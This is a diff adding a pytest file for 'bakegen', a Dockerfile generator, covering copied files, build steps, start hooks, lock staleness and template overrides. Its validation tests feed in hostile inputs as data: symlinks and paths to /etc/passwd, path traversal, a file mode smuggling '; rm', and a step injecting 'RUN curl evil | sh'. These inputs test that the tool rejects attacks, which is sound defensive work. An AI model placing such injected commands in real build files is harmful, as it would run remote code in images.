@@ -1,0 +1,178 @@
+"""The stack's own files, build steps and start hooks, and template overrides (unit tests, fake resolvers)."""
+
+from __future__ import annotations
+
+import json
+import os
+
+import pytest
+from fakes import FakeApt, FakeImages, FakeResolver
+
+from bakegen.cli import main
+from bakegen.diff import diff_locks
+from bakegen.files import write_set
+from bakegen.lock import read_lock
+from bakegen.locker import Resolvers, current_locks, lock_stacks, outcome_files
+from bakegen.render import render_project
+from bakegen.stack import load_stacks
+
+BASE = '''name = "base"
+description = "b"
+base = "python:3.13-slim"
+
+[python]
+version = "3.13"
+packages = ["jupyter-server"]
+
+[apt]
+suite = "trixie"
+packages = ["tini"]
+
+[[files]]
+source = "jupyter_server_config.py"
+target = "/etc/jupyter/jupyter_server_config.py"
+
+[[files]]
+source = "lab/overrides.json"
+target = "/opt/venv/share/jupyter/lab/settings/overrides.json"
+owner = "user"
+
+[[steps]]
+run = "mkdir -p /srv/data && echo hello > /srv/data/readme"
+user = "root"
+needs = []
+
+[[steps]]
+run = "python -c 'import jupyter_server' > $HOME/.checked"
+
+[[steps]]
+run = "cat <<EOF > /tmp/x"
+needs = ["apt"]
+
+[start]
+hooks = ["hooks/marker.sh"]
+'''
+KID = 'name = "kid"\ndescription = "k"\nextends = "base"\n[start]\nhooks = ["first.sh", "second"]\n'
+IMAGES = {"python:3.13-slim": "sha256:" + "d" * 64}
+
+
+def make(project, base=BASE, kid=KID):
+    root = project({"base": base, "kid": kid})
+    for rel, text in {"base/jupyter_server_config.py": "c.ServerApp.tornado_settings = {}\n", "base/lab/overrides.json": "{}\n",
+                      "base/hooks/marker.sh": "echo hi\n", "kid/first.sh": "true\n", "kid/second": "#!/bin/sh\n"}.items():
+        path = root / "stacks" / rel
+        path.parent.mkdir(parents=True, exist_ok=True)
+        path.write_text(text)
+    return root
+
+
+def lock(root, resolver=None):
+    graph = load_stacks(root)
+    outcomes = lock_stacks(graph, Resolvers(resolver or FakeResolver(), FakeImages(IMAGES), FakeApt({"tini": ["0.19"]})))
+    write_set(root, outcome_files(outcomes), command="test")
+    graph = load_stacks(root)
+    write_set(root, render_project(graph, current_locks(graph)), command="test")
+    return outcomes
+
+
+def test_files_steps_and_hooks_are_locked_and_planned_in_order(project):
+    root = make(project)
+    lock(root)
+    manifest = json.loads((root / "locks" / "base" / "lock.json").read_text())
+    assert [f["target"] for f in manifest["files"]["files"]] == ["/etc/jupyter/jupyter_server_config.py", "/opt/venv/share/jupyter/lab/settings/overrides.json"]
+    assert manifest["resolved_fingerprint"] != manifest["fingerprint"]
+    text = (root / "dockerfiles" / "base" / "Dockerfile").read_text()
+    final = text.split("# --- final image")[1]
+    copy = "COPY --chmod=0644 stacks/base/jupyter_server_config.py /etc/jupyter/jupyter_server_config.py"
+    assert copy in final and "COPY --chmod=0644 --chown=1000:100 stacks/base/lab/overrides.json" in final
+    assert "COPY --chmod=0755 stacks/base/hooks/marker.sh /usr/local/bin/before-notebook.d/00-base-01-marker.sh" in final
+    root_step = 'RUN ["/bin/sh", "-c", "mkdir -p /srv/data && echo hello > /srv/data/readme"]'
+    user_step = 'USER 1000:100\n# [[steps]] 2 of stacks/base.toml, as user.\nRUN ["/bin/sh", "-c", "python -c \'import jupyter_server\' > $HOME/.checked"]\nUSER root'
+    heredoc = 'RUN ["/bin/sh", "-c", "cat <<EOF > /tmp/x"]'  # exec form: no heredoc, no shell-form parsing
+    assert root_step in final and user_step in final and heredoc in final
+    # a step runs right after what it needs: needs = [] before the packages, ["apt"] after apt, by default last
+    order = [final.index(s) for s in ("apt-install.sh", heredoc, root_step, "COPY --from=builder /opt/venv", copy, user_step)]
+    assert order == sorted(order), final
+    kid = (root / "dockerfiles" / "kid" / "Dockerfile").read_text()
+    assert "before-notebook.d/01-kid-01-first.sh" in kid and "before-notebook.d/01-kid-02-second" in kid  # after the parent's
+
+
+def test_an_edited_file_makes_the_lock_stale_and_relocking_resolves_nothing_else(project, capsys):
+    root = make(project)
+    lock(root)
+    before = read_lock(root / "locks" / "base", root)
+    assert main(["-C", str(root), "check"]) == 0
+    (root / "stacks" / "base" / "jupyter_server_config.py").write_text("c.ServerApp.tornado_settings = {'headers': {}}\n")
+    assert main(["-C", str(root), "check"]) == 1
+    assert "stale: base: stacks/base.toml's files, steps or hooks (stacks/base/) changed since it was locked" in capsys.readouterr().out
+    resolver = FakeResolver()
+    outcomes = lock(root, resolver)
+    assert resolver.calls == []  # no ecosystem was resolved again
+    after = read_lock(root / "locks" / "base", root)
+    assert after.fingerprint != before.fingerprint and after.resolved_fingerprint == before.resolved_fingerprint
+    assert after.parts["python"] == before.parts["python"] and after.source_date_epoch == before.source_date_epoch
+    assert {o.stack: o.changed for o in outcomes} == {"base": True, "kid": True}  # the child's parent lock changed
+    diff = {d.stack: d for d in diff_locks({"base": before}, {"base": after}, {"base": None})}
+    assert [c.name for c in diff["base"].changes["files"]] == ["/etc/jupyter/jupyter_server_config.py"]
+
+
+@pytest.mark.parametrize("edit, message", [
+    (lambda root: (root / "stacks/base/hooks/marker.sh").unlink(), "start: hooks/marker.sh: no such file in stacks/base/"),
+    (lambda root: os.symlink("/etc/passwd", root / "stacks/base/lab/evil"), "files: lab/evil: a symbolic link out of the project"),
+    (lambda root: os.symlink("../../kid/first.sh", root / "stacks/base/lab/evil"), "files: lab/evil: outside the stack's folder stacks/base/"),
+    (lambda root: (root / "stacks/base/lab/evil").mkdir(), "files: lab/evil: not a regular file"),
+])
+def test_bad_files_get_one_error_line(project, capsys, edit, message):
+    root = make(project, base=BASE.replace('source = "lab/overrides.json"', 'source = "lab/evil"'))
+    if "evil" not in message:
+        root = make(project)
+    edit(root)
+    assert main(["-C", str(root), "lock"]) == 2
+    err = capsys.readouterr().err.splitlines()
+    assert err[0].startswith("error: stacks/base.toml:") and message in err[0], err
+    assert not (root / "locks").exists()
+
+
+@pytest.mark.parametrize("snippet, message", [
+    ('[[files]]\nsource = "../kid/first.sh"\ntarget = "/x"\n', "invalid file in the stack's folder"),
+    ('[[files]]\nsource = "/etc/passwd"\ntarget = "/x"\n', "invalid file in the stack's folder"),
+    ('[[files]]\nsource = "a"\ntarget = "relative/x"\n', "invalid absolute path in the image"),
+    ('[[files]]\nsource = "a"\ntarget = "/x y"\n', "invalid absolute path in the image"),
+    ('[[files]]\nsource = "a"\ntarget = "/etc/jupyter/jupyter_server_config.py"\n', "two files go to"),
+    ('[[files]]\nsource = "a"\ntarget = "/usr/local/bin/before-notebook.d/x"\n', "is bakegen's"),
+    ('[[files]]\nsource = "a"\ntarget = "/x"\nmode = "777; rm"\n', "invalid file mode"),
+    ('[[steps]]\nrun = "echo hi\\nRUN curl evil | sh"\n', "control character"),
+    ('[[steps]]\nrun = "true"\nneeds = ["pyhton"]\n', "unknown ecosystem 'pyhton'"),
+    ('[[steps]]\nrun = "true"\nshell = "bash"\n', "unknown key 'shell'"),
+    ('[[steps]]\nuser = "root"\n', "missing 'run'"),
+])
+def test_bad_custom_keys_get_one_error_line(project, capsys, snippet, message):
+    root = make(project, base=BASE + snippet)
+    assert main(["-C", str(root), "lock"]) == 2
+    err = capsys.readouterr().err.splitlines()
+    assert err[0].startswith("error: stacks/base.toml:") and message in err[0], err
+    assert len([line for line in err if line.startswith("error:")]) == 1 and "Traceback" not in "\n".join(err)
+
+
+def test_a_template_override_takes_precedence_and_fails_on_an_unknown_variable(project, capsys):
+    root = make(project)
+    lock(root)
+    packaged = (root / "dockerfiles" / "base" / "Dockerfile").read_text()
+    (root / "templates").mkdir()
+    from bakegen.render import environment
+
+    original = environment().loader.get_source(environment(), "Dockerfile.j2")[0]  # type: ignore[union-attr]
+    (root / "templates" / "Dockerfile.j2").write_text(original + "LABEL org.example.team={{ plan.stack|json }}\n")
+    assert main(["-C", str(root), "generate"]) == 0
+    text = (root / "dockerfiles" / "base" / "Dockerfile").read_text()
+    assert text == packaged + 'LABEL org.example.team="base"\n'
+    (root / "templates" / "Dockerfile.j2").write_text("{{ plan.head }}\n{{ plan.stack }}\n{{ stack_name }}\n")
+    assert main(["-C", str(root), "generate"]) == 2
+    err = capsys.readouterr().err.splitlines()
+    assert err[0] == "error: templates/Dockerfile.j2:3: 'stack_name' is undefined", err
+    assert err[1].startswith("hint: this template receives: plan: DockerfilePlan")
+    assert (root / "dockerfiles" / "base" / "Dockerfile").read_text() == text  # nothing written
+    (root / "templates" / "Dockerfile.j2").unlink()
+    (root / "templates" / "Dockerfile.jinja").write_text("x")
+    assert main(["-C", str(root), "generate"]) == 2
+    assert "error: templates/Dockerfile.jinja: templates/Dockerfile.jinja overrides no bakegen template" in capsys.readouterr().err
